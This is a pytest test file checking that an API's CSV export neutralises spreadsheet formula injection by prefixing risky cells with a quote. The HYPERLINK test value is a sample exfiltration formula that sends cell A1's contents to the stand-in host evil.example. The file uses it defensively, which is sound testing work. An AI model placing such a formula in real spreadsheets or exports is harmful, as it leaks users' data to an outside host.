"""CSV cells a spreadsheet would run as formulas (OWASP "CSV Injection") go out with a leading `'`."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from api.http.auth import create_token
from api.http.representations import csv_body, csv_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 (555) 0100", "'+1 (555) 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Geneva = venue", "Geneva = venue"),  # only the first character counts
        ("", ""),
        (None, ""),
        (-3, "-3"),  # numbers are not text: a sign is no formula
        (-0.5, "-0.5"),
        (7, "7"),
        (True, "true"),
        (["russia", "nato"], "russia;nato"),
        (["=1+1", "x"], "'=1+1;x"),
        ([-1, 2], "'-1;2"),  # joined, a list is text
        ({"a": 1}, '{"a":1}'),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_body_quotes_a_neutralised_cell_as_any_other():
    rows = list(csv.reader(io.StringIO(csv_body([{"a": HYPERLINK, "b": -4}], ["a", "b"]).decode())))
    assert rows == [["a", "b"], ["'" + HYPERLINK, "-4"]]


@pytest.fixture(scope="module")
def token(db) -> str:
    return create_token(db, f"csv-{uuid.uuid4().hex[:8]}", "write", None)


def test_stored_formulas_come_out_of_a_csv_list_neutralised(client, token):
    talk_id = f"csv-formulas-{uuid.uuid4().hex[:8]}"
    talk = {
        "id": talk_id,
        "title": "-2+3 talks",
        "format": "bilateral",
        "starts_on": "2031-07-04",
        "ends_on": None,
        "location": "@SUM(A1:A9)",
        "status": "scheduled",
        "party_ids": ["russia", "united-states"],
        "proposal_ids": [],
        "delegations": [],
        "chair": None,
        "summary": HYPERLINK,
        "source_ids": ["sputnik-lavrov-security-guarantees"],
    }
    assert client.post("/v1/talks", json=talk, headers={"Authorization": f"Bearer {token}"}).status_code == 201
    response = client.get("/v1/talks?since=2031-07-04&until=2031-07-04&format=csv&fields=id,title,location,summary")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows == [["id", "title", "location", "summary"], [talk_id, "'-2+3 talks", "'@SUM(A1:A9)", "'" + HYPERLINK]]
    assert client.get(f"/v1/talks/{talk_id}").get_json()["summary"] == HYPERLINK  # JSON is unchanged


def test_number_columns_stay_numbers(client):
    text = client.get("/v1/clauses?proposal=us-russia-security-treaty&format=csv&fields=id,position&limit=3").get_data(
        as_text=True
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[1] for row in rows] == ["position", "1", "2", "3"]
